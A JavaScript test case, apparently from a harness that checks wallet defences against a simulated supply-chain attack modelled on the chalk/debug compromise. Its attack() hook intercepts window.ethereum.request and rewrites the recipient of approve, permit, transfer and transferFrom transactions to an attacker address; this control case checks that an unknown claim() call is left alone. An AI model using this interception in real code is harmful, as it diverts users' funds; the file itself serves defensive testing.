// A12: the control of the payload: a call it does not know and that carries no value is left untouched.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'A12',
  title: 'unknown selector without value, untouched',
  source: 'chalk/debug, 8 September 2025',
  level: 'control',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`], contracts: [`${a.chain}:${a.TOKEN}`] }),

  attack(a) {
    const before = window.ethereum.request;
    window.ethereum.request = async function (call) {
      const copy = JSON.parse(JSON.stringify(call));
      const known = ['0x095ea7b3', '0xd505accf', '0xa9059cbb', '0x23b872dd'];
      const tx = copy.params?.[0];
      if (copy.method === 'eth_sendTransaction' && (!tx.data || known.includes(tx.data.slice(0, 10)))) tx.to = a.EVIL;
      return before.call(this, copy);
    };
  },

  async action(a, app) {
    // claim(): no argument, no value.
    const tx = { from: a.USER, to: a.TOKEN, data: '0x4e71d92d' };
    return app.provider.request({ method: 'eth_sendTransaction', params: [tx] });
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.TOKEN, 'eth_sendTransaction'),
};
